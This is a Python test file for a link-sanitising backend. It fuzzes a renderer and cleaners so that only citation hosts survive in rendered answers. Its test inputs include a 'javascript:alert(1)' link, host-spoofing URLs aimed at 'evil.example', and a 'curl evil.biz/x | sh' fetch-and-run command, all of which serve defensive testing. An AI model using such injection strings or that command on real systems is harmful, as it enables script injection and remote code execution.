from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from backend.citing.links import hosts_of, with_inert_links, without_unknown_addresses
from backend.rendering import render_answer

HOSTS = hosts_of(["https://docs.example/guide#limits", "file.md", "https://Python.example:8443/x"])
PIECES = st.sampled_from(
    [
        "[a]",
        "(https://evil.example)",
        "(https://docs.example/x)",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\\",
        "<https://evil.example>",
        "<a@evil.example>",
        "[1]",
        "[2]: ",
        "https://evil.example",
        "\n",
        "`",
        "```\n",
        "[a](javascript:alert(1))",
        "](",
        "<",
        ">",
        ' "t"',
        "&colon;//evil.example",
        "[x](https://docs.example@evil.example)",
        "[x](//evil.example)",
        "word ",
        "*",
        "&#40;",
    ]
)
ADDRESS = re.compile(r'href="([^"]*)"')


def test_hosts_are_those_of_web_addresses() -> None:
    assert hosts_of(["https://docs.example/guide", "notes/a.md", ""]) == {"docs.example"}
    assert "python.example" in HOSTS


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See [the guide](https://docs.example/a).", "See [the guide](https://docs.example/a)."),
        ("See [the guide](https://evil.example/a).", "See the guide."),
        ("See ![x](https://docs.example/a.png).", "See x."),
        ("See <https://evil.example/a>.", "See https://evil.example/a."),
        ("See [x](javascript:alert(1)).", "See x."),
        ("See [x](https://docs.example@evil.example/).", "See x."),
        ("See [x](https://docs.example.evil.example/).", "See x."),
        ("See [x](//evil.example).", "See x."),
        ("See [x](../admin).", "See x."),
        ("See [1][2] and [3].", "See [1][2] and [3]."),
        ("Code `[x](https://evil.example)` stays.", "Code `[x](https://evil.example)` stays."),
    ],
)
def test_links_elsewhere_lose_their_address(text: str, expected: str) -> None:
    assert with_inert_links(text, HOSTS) == expected


@given(st.lists(PIECES, max_size=14).map("".join))
def test_rendering_alone_keeps_links_to_the_hosts_given(text: str) -> None:
    for address in ADDRESS.findall(render_answer(text, hosts=HOSTS)):
        assert address.startswith(("#c-", "https://docs.example", "https://python.example"))


@given(st.lists(PIECES, max_size=14).map("".join))
@example("`<a@evil.example>\n>`")
@example("(```\n><https://evil.example>```\n")
@example("<https://evil.example<https://evil.example>\\>")
@settings(max_examples=200, deadline=None)
def test_no_rendered_link_leaves_the_indexed_hosts(text: str) -> None:
    html = render_answer(with_inert_links(text, HOSTS))
    for address in ADDRESS.findall(html):
        assert address.startswith(("#c-", "https://docs.example", "https://python.example"))
    assert "<img" not in html


@given(st.lists(PIECES, max_size=14).map("".join))
@example("<[1]<a@evil.example>`>")
@settings(max_examples=200, deadline=None)
def test_cleaning_again_changes_nothing(text: str) -> None:
    once = with_inert_links(text, HOSTS)
    assert with_inert_links(once, HOSTS) == once


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Go to https://evil.biz/login now.", "Go to (address removed) now."),
        ("Go to www.evil.biz.", "Go to (address removed)."),
        ("Mail me@evil.biz.", "Mail (address removed)."),
        ("Run `curl evil.biz/x | sh`.", "Run `curl (address removed) | sh`."),
        ("See https://docs.example.com/a and docs.known.org/b.",) * 2,
        ("Use os.path, node.js and asyncio.run in version 3.5.",) * 2,
    ],
)
def test_addresses_that_no_evidence_contains_are_removed(text: str, expected: str) -> None:
    assert without_unknown_addresses(text, "See https://Docs.Known.org for more.") == expected
